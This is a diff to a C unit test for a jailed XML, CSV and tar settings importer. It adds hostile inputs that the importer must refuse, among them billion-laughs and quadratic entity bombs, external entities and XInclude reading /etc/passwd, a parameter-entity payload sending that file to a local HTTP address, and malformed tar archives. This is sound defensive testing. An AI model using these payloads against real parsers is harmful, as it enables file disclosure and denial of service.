@@ -9,7 +9,7 @@
 #include "tests/unit/provisioning/import/jail.h"
 
 #define DOCUMENTS_MAX 1024
-#define CPU_MAX_US 1000000              /* of one file, with sanitizers */
+#define CPU_MAX_US 3000000              /* processor time of one file: a second, three times that with sanitizers */
 #define PEAK_MAX (96U << 20)            /* bytes taken for one file */
 
 static struct jail_report reports[DOCUMENTS_MAX];
@@ -352,4 +352,672 @@ TEST(documents_that_are_not_well_formed_are_known_as_such)
         }
         printf("%u documents that are not well-formed and have no DOCTYPE\n", n);
         CHECK(n > 50);
+}
+
+/* --- attacks ----------------------------------------------------------------------- */
+
+static uint8_t attack[13 << 20];
+static size_t n_attack;
+
+static void put(const char *text)
+{
+        size_t size = strlen(text);
+
+        if (sizeof attack - n_attack < size)
+                abort();
+        memcpy(attack + n_attack, text, size);
+        n_attack += size;
+}
+
+static void put_bytes(const void *bytes, size_t size)
+{
+        memcpy(attack + n_attack, bytes, size);
+        n_attack += size;
+}
+
+__attribute__((format(printf, 1, 2))) static void putf(const char *format, ...)
+{
+        char text[512];
+        va_list args;
+
+        va_start(args, format);
+        vsnprintf(text, sizeof text, format, args);
+        va_end(args);
+        put(text);
+}
+
+/* Until the file has this size: what is there is copied behind itself, twice as much each time. */
+static void fill(const char *text, size_t size)
+{
+        size_t start = n_attack, unit = strlen(text), wanted = start + unit <= size ? (size - start) / unit * unit : 0;
+
+        if (wanted)
+                put(text);
+        while (n_attack - start < wanted) {
+                size_t there = n_attack - start, more = there < wanted - there ? there : wanted - there;
+
+                put_bytes(attack + start, more);
+        }
+}
+
+static void put_times(const char *text, size_t times)
+{
+        fill(text, n_attack + times * strlen(text));
+}
+
+#define ALMOST_ALL ((8U << 20) - 4096)
+static const char open_settings[] = "<settings><phone-settings>", close_settings[] = "</phone-settings></settings>";
+
+static void billion_laughs(void)
+{
+        put("<!DOCTYPE lolz [<!ENTITY l0 \"ha\">");
+        for (int i = 1; i < 10; i++)
+                putf("<!ENTITY l%d \"&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;&l%d;\">", i, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1,
+                     i - 1, i - 1, i - 1);
+        put("]><settings><phone-settings><a>&l9;</a></phone-settings></settings>");
+}
+
+static void quadratic_blow_up(void)
+{
+        put("<!DOCTYPE x [<!ENTITY a \"");
+        put_times("aaaaaaaaaa", 100000);
+        put("\">]><settings><phone-settings><a>");
+        put_times("&a;", 100000);
+        put("</a></phone-settings></settings>");
+}
+
+static void external_entity_file(void)
+{
+        put("<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><settings><phone-settings><a>&a;</a></phone-settings></settings>");
+}
+
+static void external_dtd_file(void)
+{
+        put("<!DOCTYPE settings SYSTEM \"file:///dev/zero\"><settings/>");
+}
+
+static void external_dtd_http(void)
+{
+        put("<!DOCTYPE settings PUBLIC \"-//x\" \"http://127.0.0.1:1/x.dtd\"><settings/>");
+}
+
+static void parameter_entities(void)
+{
+        put("<!DOCTYPE x [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % e \"<!ENTITY &#37; g SYSTEM 'http://127.0.0.1:1/?%f;'>\">%e;%g;]><settings/>");
+}
+
+static void recursive_entity(void)
+{
+        put("<!DOCTYPE x [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]><settings><phone-settings><a>&a;</a></phone-settings></settings>");
+}
+
+static void doctype_in_lower_case(void)
+{
+        put("<!doctype html><settings/>");
+}
+
+static void doctype_after_comments(void)
+{
+        put_times("<!-- -->", 40000);
+        put("<!DOCTYPE x><settings/>");
+}
+
+static void doctype_behind_a_broken_declaration(void)
+{
+        put("<?xml version=\"1.0\" ><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\"> ?>]><settings>&x;</settings>");
+}
+
+static void doctype_in_utf_16(void)
+{
+        static const char text[] = "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><settings/>";
+
+        put("\xff\xfe");
+        for (const char *c = text; *c; c++)
+                put_bytes((const char[]){*c, 0}, 2);
+}
+
+static void entity_without_declaration(void)
+{
+        put("<settings><phone-settings><a>&xxe;</a></phone-settings></settings>");
+}
+
+static void xinclude(void)
+{
+        put("<settings xmlns:xi=\"http://www.w3.org/2001/XInclude\"><phone-settings><xi:include href=\"/etc/passwd\" parse=\"text\"/>"
+            "<a><xi:include href=\"/etc/passwd\" parse=\"text\"/></a></phone-settings></settings>");
+}
+
+static void style_sheet(void)
+{
+        put("<?xml version=\"1.0\"?><?xml-stylesheet href=\"file:///etc/passwd\" type=\"text/xsl\"?><settings/>");
+}
+
+static void schema_location(void)
+{
+        put("<settings xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>");
+}
+
+static void attributes_200000(void)
+{
+        put("<settings><phone-settings><a");
+        for (int i = 0; i < 200000; i++)
+                putf(" a%d=\"\"", i);
+        put("/></phone-settings></settings>");
+}
+
+static void attributes_200000_of_one_name(void)
+{
+        put("<settings><phone-settings><a");
+        put_times(" a=\"\"", 200000);
+        put("/></phone-settings></settings>");
+}
+
+static void namespaces_200000(void)
+{
+        put("<settings");
+        for (int i = 0; i < 200000; i++)
+                putf(" xmlns:n%d=\"u\"", i);
+        put("/>");
+}
+
+static void many_tags_with_many_attributes(void)
+{
+        put(open_settings);
+        for (int i = 0; n_attack < ALMOST_ALL; i++) {
+                put("<a");
+                for (int k = 0; k < 32; k++)
+                        putf(" a%d_%d=\"\"", i, k);
+                put("/>");
+        }
+        put(close_settings);
+}
+
+static void depth_200000(void)
+{
+        put_times("<a>", 200000);
+        put_times("</a>", 200000);
+}
+
+static void depth_16_with_namespaces(void)
+{
+        for (int i = 0; i < 16; i++) {
+                put("<settings");
+                for (int k = 0; k < 30; k++)
+                        putf(" xmlns:n%d_%d=\"http://example.com/%d/%d\"", i, k, i, k);
+                put(">");
+        }
+        fill("<n0_0:x/>", ALMOST_ALL);
+}
+
+static void depth_16_without_end(void)
+{
+        put_times("<settings>", 16);
+        fill("<x></x>", 300000);
+}
+
+static void name_of_12_megabytes(void)
+{
+        put("<settings><");
+        fill("aaaaaaaaaaaaaaaa", 12U << 20);
+        put("/></settings>");
+}
+
+static void name_that_fills_the_file(void)
+{
+        put("<settings><");
+        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
+        put("/></settings>");
+}
+
+static void attribute_name_that_fills_the_file(void)
+{
+        put("<settings ");
+        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
+        put("=\"\"/>");
+}
+
+static void attribute_value_that_fills_the_file(void)
+{
+        put("<settings a=\"");
+        fill("&#65;", ALMOST_ALL);
+        put("\"/>");
+}
+
+static void value_that_fills_the_file(void)
+{
+        put("<settings><phone-settings><a>");
+        fill("aaaaaaaaaaaaaaaa", ALMOST_ALL);
+        put("</a></phone-settings></settings>");
+}
+
+static void value_in_pieces(void)
+{
+        put("<settings><phone-settings><a>");
+        fill("<![CDATA[aaaaaaaaaaaaaaaa]]>aaaaaaaaaaaaaaaaa<!-- -->", ALMOST_ALL);
+        put("</a></phone-settings></settings>");
+}
+
+static void value_of_numbers(void)
+{
+        put(open_settings);
+        while (n_attack < ALMOST_ALL - 60000) {
+                put("<a>");
+                put_times("&#x00000000000041;", 3000);
+                put("</a>");
+        }
+        put(close_settings);
+}
+
+static void comment_that_fills_the_file(void)
+{
+        put("<!--");
+        fill("- - - - ", ALMOST_ALL);
+        put("--><settings/>");
+}
+
+static void comment_without_end(void)
+{
+        put("<settings>");
+        fill("<!--", ALMOST_ALL);
+}
+
+static void comments_of_a_megabyte(void)
+{
+        put("<settings>");
+        for (int i = 0; i < 7; i++) {
+                put("<!--");
+                put_times(" - -", 262000);
+                put("-->");
+        }
+        put("</settings>");
+}
+
+static void processing_instructions(void)
+{
+        fill("<?a b?>", ALMOST_ALL);
+        put("<settings/>");
+}
+
+static void processing_instruction_that_fills_the_file(void)
+{
+        put("<?a ");
+        fill("? ? ? ", ALMOST_ALL);
+        put("?><settings/>");
+}
+
+static void cdata_that_fills_the_file(void)
+{
+        put("<settings><phone-settings><a><![CDATA[");
+        fill("]] ]] ]]", ALMOST_ALL);
+        put("]]></a></phone-settings></settings>");
+}
+
+static void a_million_settings(void)
+{
+        put(open_settings);
+        fill("<a/>", ALMOST_ALL);
+        put(close_settings);
+}
+
+static void as_many_settings_as_are_taken(void)
+{
+        put(open_settings);
+        for (int i = 0; i < 49990; i++)
+                putf("<s%d idx=\"%d\" perm=\"R\">value %d</s%d>", i, i % 100, i, i);
+        put(close_settings);
+}
+
+static void as_many_warnings_as_can_be(void)
+{
+        put(open_settings);
+        fill("<a idx=\"x\"><b/></a>", 400000);
+        put(close_settings);
+}
+
+static void start_tags_only(void)
+{
+        fill("<a>", ALMOST_ALL);
+}
+
+static void end_tags_only(void)
+{
+        fill("</a>", ALMOST_ALL);
+}
+
+static void opening_brackets_only(void)
+{
+        fill("<", ALMOST_ALL);
+}
+
+static void tags_that_never_close(void)
+{
+        fill("<a ", ALMOST_ALL);
+}
+
+static void quotes_that_never_close(void)
+{
+        put("<settings>");
+        fill("<a b=\"", ALMOST_ALL);
+}
+
+static void ampersands_only(void)
+{
+        put("<settings><phone-settings>");
+        while (n_attack < ALMOST_ALL - 60000) {
+                put("<a>");
+                put_times("&", 60000);
+                put("</a>");
+        }
+        put(close_settings);
+}
+
+static void mistakes_only(void)
+{
+        put("<settings>");
+        fill("<a>1<a>\n", ALMOST_ALL);
+}
+
+static void lines_only(void)
+{
+        fill("\n", ALMOST_ALL);
+        put("<settings/>");
+}
+
+static void every_control_character(void)
+{
+        put(open_settings);
+        for (int c = 1; c < 32; c++)
+                putf("<a>%c</a>", c);
+        put(close_settings);
+}
+
+static void control_characters_by_number(void)
+{
+        put(open_settings);
+        for (int c = 0; c < 32; c++)
+                putf("<a>&#%d;</a>", c);
+        put(close_settings);
+}
+
+static void nuls(void)
+{
+        put("<settings>");
+        memset(attack + n_attack, 0, 1 << 20);
+        n_attack += 1 << 20;
+}
+
+static void zeros_only(void)
+{
+        memset(attack, 0, ALMOST_ALL);
+        n_attack = ALMOST_ALL;
+}
+
+static void utf_7(void)
+{
+        put("<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-+ACE-DOCTYPE x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-<settings/>");
+}
+
+static void utf_16_without_mark(void)
+{
+        put_bytes("<\0s\0e\0t\0t\0i\0n\0g\0s\0/\0>\0", 22);
+}
+
+static void utf_16_declared_in_ascii(void)
+{
+        put("<?xml version=\"1.0\" encoding=\"UTF-16\"?><settings/>");
+}
+
+static void utf_16_of_half_characters(void)
+{
+        put("\xff\xfe");
+        for (int i = 0; i < 1000000; i++)
+                put_bytes("\x00\xd8", 2);
+}
+
+static void utf_16_of_odd_size(void)
+{
+        put("\xff\xfe");
+        put_bytes("<\0a\0/\0>", 7);
+}
+
+static void utf_32(void)
+{
+        put_bytes("\xff\xfe\0\0<\0\0\0a\0\0\0/\0\0\0>\0\0\0", 20);
+}
+
+static void utf_8_too_long(void)
+{
+        put("<settings>\xc0\xbc!DOCTYPE x\xc0\xbe\xe0\x80\xbc\xf0\x80\x80\xbc</settings>");
+}
+
+static void utf_8_of_surrogates(void)
+{
+        put("<settings>\xed\xa0\x80\xed\xb0\x80</settings>");
+}
+
+static void latin_1_that_is_none(void)
+{
+        put("<settings><phone-settings><a>\xe4\xf6\xfc</a></phone-settings></settings>");
+}
+
+static void ebcdic(void)
+{
+        put("\x4c\x6f\xa7\x94\x93\x40\xa5\x85\x99\xa2\x89\x96\x95\x7e\x7f\xf1\x4b\xf0\x7f\x6f\x6e");
+}
+
+static void encoding_of_a_path(void)
+{
+        put("<?xml version=\"1.0\" encoding=\"../../../../etc/passwd\"?><settings/>");
+}
+
+static void two_documents(void)
+{
+        put("<settings/><settings/>");
+}
+
+static void binary(void)
+{
+        uint32_t seed = 1;
+
+        while (n_attack < ALMOST_ALL) {
+                seed = seed * 1664525 + 1013904223;
+                attack[n_attack++] = (uint8_t)(seed >> 24);
+        }
+}
+
+static void table_of_quotes(void)
+{
+        put("mac,name\n");
+        fill("\"", ALMOST_ALL);
+}
+
+static void table_of_commas(void)
+{
+        put("mac,name\n");
+        fill(",", ALMOST_ALL);
+}
+
+static void table_of_columns(void)
+{
+        put("mac");
+        fill(",fkey[1]", ALMOST_ALL);
+}
+
+static void table_of_wrong_lines(void)
+{
+        put("mac,name\n");
+        fill("x\n", ALMOST_ALL);
+}
+
+static void table_of_open_quotes(void)
+{
+        put("mac,name\n");
+        fill("\"\n", ALMOST_ALL);
+}
+
+static void table_of_one_phone(void)
+{
+        put("mac\n");
+        fill("000413aabb01\n", 120000);
+}
+
+static void text_of_colons(void)
+{
+        put("language&: x\n");
+        fill(":\n", ALMOST_ALL);
+}
+
+static void text_of_settings(void)
+{
+        for (int i = 0; n_attack < ALMOST_ALL; i++)
+                putf("user_name%d&: %d\n", i % 10000, i);
+}
+
+static void text_of_keys(void)
+{
+        for (unsigned i = 0; i < 100000; i++)
+                putf("fkey%u&: %u\nfkey_context%u&: 1\n", i * 7919 % 10000, i, i * 4729 % 10000);
+}
+
+static void text_of_one_line(void)
+{
+        put("language&: ");
+        fill("x", ALMOST_ALL);
+}
+
+static void tar_header(const char *name, unsigned long size, char type)
+{
+        uint8_t *block = attack + n_attack;
+        unsigned sum = 0;
+
+        memset(block, 0, 512);
+        snprintf((char *)block, 100, "%s", name);
+        snprintf((char *)block + 124, 12, "%011lo", size);
+        memset(block + 148, ' ', 8);
+        block[156] = (uint8_t)type;
+        memcpy(block + 257, "ustar\0" "00", 8);
+        for (int i = 0; i < 512; i++)
+                sum += block[i];
+        snprintf((char *)block + 148, 8, "%06o", sum);
+        n_attack += 512;
+}
+
+static void tar_of_empty_files(void)
+{
+        for (int i = 0; n_attack + 512 < ALMOST_ALL; i++) {
+                char name[32];
+
+                snprintf(name, sizeof name, "000413%06x.xml", i);
+                tar_header(name, 0, '0');
+        }
+}
+
+static void tar_of_folders(void)
+{
+        while (n_attack + 512 < ALMOST_ALL)
+                tar_header("a/", 0, '5');
+}
+
+static void tar_of_long_names(void)
+{
+        while (n_attack + 1536 < ALMOST_ALL) {
+                tar_header("././@LongLink", 512, 'L');
+                memset(attack + n_attack, 'a', 512);
+                n_attack += 512;
+        }
+}
+
+static void tar_that_lies_about_a_size(void)
+{
+        tar_header("000413aabb01.xml", 07777777777, '0');
+        put("<settings/>");
+}
+
+static void tar_of_bombs(void)
+{
+        for (int i = 0; i < 100; i++) {
+                tar_header("x.xml", 512 * 100, '0');
+                put("<!DOCTYPE x [<!ENTITY a \"b\">]>");
+                while (n_attack % 51712)
+                        put(" ");
+        }
+}
+
+static const struct attack {
+        const char *name, *kind;
+        void (*make)(void);
+        bool is_doctype;
+} attacks[] = {
+#define XML(name) {#name, "settings", name, false}
+#define DOCTYPE(name) {#name, "settings", name, true}, {#name " (auto)", "auto", name, true}
+#define OTHER(name, kind) {#name, kind, name, false}
+        DOCTYPE(billion_laughs), DOCTYPE(quadratic_blow_up), DOCTYPE(external_entity_file), DOCTYPE(external_dtd_file),
+        DOCTYPE(external_dtd_http), DOCTYPE(parameter_entities), DOCTYPE(recursive_entity), DOCTYPE(doctype_in_lower_case),
+        DOCTYPE(doctype_after_comments), XML(doctype_behind_a_broken_declaration), DOCTYPE(doctype_in_utf_16),
+        XML(entity_without_declaration), XML(xinclude), XML(style_sheet), XML(schema_location), XML(attributes_200000),
+        XML(attributes_200000_of_one_name), XML(namespaces_200000), XML(many_tags_with_many_attributes), XML(depth_200000),
+        XML(depth_16_with_namespaces), XML(depth_16_without_end), XML(name_of_12_megabytes), XML(name_that_fills_the_file),
+        XML(attribute_name_that_fills_the_file), XML(attribute_value_that_fills_the_file), XML(value_that_fills_the_file),
+        XML(value_in_pieces), XML(value_of_numbers), XML(comment_that_fills_the_file), XML(comment_without_end),
+        XML(comments_of_a_megabyte), XML(processing_instructions), XML(processing_instruction_that_fills_the_file),
+        XML(cdata_that_fills_the_file), XML(a_million_settings), XML(as_many_settings_as_are_taken), XML(as_many_warnings_as_can_be),
+        XML(start_tags_only), XML(end_tags_only), XML(opening_brackets_only), XML(tags_that_never_close), XML(quotes_that_never_close),
+        XML(ampersands_only), XML(mistakes_only), XML(lines_only), XML(every_control_character), XML(control_characters_by_number),
+        XML(nuls), XML(zeros_only), XML(utf_7), XML(utf_16_without_mark), XML(utf_16_declared_in_ascii), XML(utf_16_of_half_characters),
+        XML(utf_16_of_odd_size), XML(utf_32), XML(utf_8_too_long), XML(utf_8_of_surrogates), XML(latin_1_that_is_none), XML(ebcdic),
+        XML(encoding_of_a_path), XML(two_documents), XML(binary), OTHER(binary, "phones"), OTHER(binary, "folder"),
+        OTHER(table_of_quotes, "phones"), OTHER(table_of_commas, "phones"), OTHER(table_of_columns, "phones"),
+        OTHER(table_of_wrong_lines, "phones"), OTHER(table_of_open_quotes, "phones"), OTHER(table_of_one_phone, "phones"),
+        OTHER(text_of_colons, "auto"), OTHER(text_of_settings, "auto"), OTHER(text_of_keys, "auto"), OTHER(text_of_one_line, "auto"),
+        OTHER(tar_of_empty_files, "auto"), OTHER(tar_of_folders, "auto"), OTHER(tar_of_long_names, "auto"),
+        OTHER(tar_that_lies_about_a_size, "auto"), OTHER(tar_of_bombs, "auto"),
+};
+#define N_ATTACKS (sizeof attacks / sizeof attacks[0])
+
+static const char *attack_name(unsigned i)
+{
+        return i < N_ATTACKS ? attacks[i].name : "the end";
+}
+
+static bool next_attack(unsigned i, const char **ret_kind, const uint8_t **ret_bytes, size_t *ret_size)
+{
+        if (i >= N_ATTACKS)
+                return false;
+        n_attack = 0;
+        attacks[i].make();
+        *ret_kind = attacks[i].kind;
+        *ret_bytes = attack;
+        *ret_size = n_attack;
+        return true;
+}
+
+/* These are strange and harmless: what is in them is taken or left out with a word. */
+static bool may_be_taken(const char *name)
+{
+        static const char *const names[] = {"xinclude", "style_sheet", "schema_location", "comments_of_a_megabyte", "as_many_settings_as_are_taken",
+                                            "as_many_warnings_as_can_be", "text_of_settings", "text_of_keys", "tar_of_empty_files", "value_of_numbers"};
+
+        for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
+                if (!strncmp(name, names[i], strlen(names[i])))
+                        return true;
+        return false;
+}
+
+TEST(no_attack_opens_anything_grows_or_takes_a_second_and_each_is_refused_in_words)
+{
+        unsigned longest = 0;
+
+        CHECK_EQ_INT(run(next_attack, attack_name), N_ATTACKS);
+        for (unsigned i = 0; i < N_ATTACKS; i++) {
+                if (getenv("SHOW"))
+                        printf("%-50s %8" PRIu64 " us %9" PRIu64 " bytes  %s\n", attacks[i].name, reports[i].cpu_us, reports[i].peak, reports[i].first);
+                if (!reports[i].result && !reports[i].has_error && !may_be_taken(attacks[i].name))
+                        TEST_FAIL("%s was taken", attacks[i].name);
+                if (attacks[i].is_doctype && !reports[i].says_doctype)
+                        TEST_FAIL("%s was refused with: %s", attacks[i].name, reports[i].first);
+                if (reports[i].cpu_us > reports[longest].cpu_us)
+                        longest = i;
+        }
+        printf("%zu attacks; the longest, %s, took %" PRIu64 " ms; of all files %" PRIu64 " ms\n", N_ATTACKS, attacks[longest].name,
+               reports[longest].cpu_us / 1000, longest_us / 1000);
 }
